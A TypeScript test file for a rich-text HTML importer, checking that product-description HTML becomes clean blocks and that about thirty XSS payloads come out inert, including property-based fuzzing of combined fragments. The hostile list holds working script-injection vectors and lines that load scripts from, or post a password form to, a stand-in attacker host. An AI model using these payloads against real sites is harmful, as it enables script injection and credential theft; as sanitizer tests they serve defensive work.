import fc from "fast-check";
import { expect, test } from "vitest";
import { RichText, type RichTextValue, type Run } from ".";

const runsOf = (value: RichTextValue): Run[] =>
  value.flatMap((block) => (block.type === "list" ? block.items.flat() : block.runs));

test("HTML of another shop system becomes blocks", () => {
  const html = `
    <meta charset="utf-8"><style>p { color: red }</style>
    <h1 class="title">The <em>Kettle</em></h1>
    <p style="text-align:center">Holds <strong>1.5&nbsp;l</strong> &amp; boils<br />fast. <a href="https://example.com/x?a=1&amp;b=2" onclick="steal()">More</a></p>
    <ul><li>Steel</li><li><p>Glass</p><ol><li>Clear</li></ol></li></ul>
    <table><tbody><tr><th>Height</th><td>20 cm</td></tr><tr><td>Weight</td><td>900 g</td></tr></tbody></table>
    <blockquote><p>Best kettle.</p></blockquote>
    <div>Loose text<br><br>after a break<div>nested</div></div>
    <iframe src="https://video.example">No frames</iframe><img src="x" alt="A kettle">`;
  expect(RichText.fromHtml(html)).toEqual([
    { type: "heading", level: 2, runs: [{ text: "The " }, { text: "Kettle", italic: true }] },
    {
      type: "paragraph",
      runs: [
        { text: "Holds " },
        { text: "1.5 l", bold: true },
        { text: " & boils\nfast. " },
        { text: "More", link: "https://example.com/x?a=1&b=2" },
      ],
    },
    { type: "list", ordered: false, items: [[{ text: "Steel" }], [{ text: "Glass" }]] },
    { type: "list", ordered: true, items: [[{ text: "Clear" }]] },
    { type: "paragraph", runs: [{ text: "Height | 20 cm" }] },
    { type: "paragraph", runs: [{ text: "Weight | 900 g" }] },
    { type: "quote", runs: [{ text: "Best kettle." }] },
    { type: "paragraph", runs: [{ text: "Loose text" }] },
    { type: "paragraph", runs: [{ text: "after a break" }] },
    { type: "paragraph", runs: [{ text: "nested" }] },
  ]);
});

test("an empty line separates paragraphs of WordPress, which stores no tags for them", () => {
  expect(RichText.fromHtml("One <b>bold</b>\nline.\n\nTwo.\r\n \r\nThree.")).toEqual([
    { type: "paragraph", runs: [{ text: "One " }, { text: "bold", bold: true }, { text: " line." }] },
    { type: "paragraph", runs: [{ text: "Two." }] },
    { type: "paragraph", runs: [{ text: "Three." }] },
  ]);
});

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='&#106;avascript&colon;alert(1)'>x</a>",
  "<a href=' java\tscript:alert(1)'>x</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example'>x</a>",
  "<a href='/\\evil.example'>x</a>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='x.swf'></object><embed src='x.swf'>",
  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<div style='position:fixed' onclick='alert(1)'>x</div>",
  "<math><mtext><script>alert(1)</script></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<template><script>alert(1)</script></template>",
  '<a href="https://user:pass@evil.example">x</a>',
  "<p>unclosed <b><i><a href=javascript:alert(1)>",
  "</p></b></div></li></ul></blockquote></td>",
];

/** Renders a value as our view does: text is escaped, and a link has the address that the value has. */
const isInert = (value: RichTextValue) =>
  runsOf(value).every(
    ({ link }) => link === undefined || /^(https?:\/\/[^@]+|mailto:|tel:|\/(?!\/)|#)/.test(link),
  );

test.each(hostile)("%s comes out inert", (html) => {
  const value = RichText.fromHtml(html);
  expect(isInert(value)).toBe(true);
  expect(RichText.Schema.parse(value)).toEqual(value);
});

test("scripts, styles and frames leave no text", () => {
  const html = `${hostile.slice(0, 2).join("")}<style>a{}</style><iframe>x</iframe><noscript>y</noscript>`;
  expect(RichText.fromHtml(html)).toEqual([]);
});

test("an escaped tag is text", () => {
  expect(RichText.plain(RichText.fromHtml("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"))).toBe(
    "<script>alert(1)</script>",
  );
});

test("pieces of hostile HTML in any order come out inert, and survive Markdown", () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 8 })), { maxLength: 8 }),
      (parts) => {
        const value = RichText.fromHtml(parts.join(""));
        expect(isInert(value)).toBe(true);
        expect(RichText.fromMarkdown(RichText.toMarkdown(value))).toEqual(value);
      },
    ),
  );
});
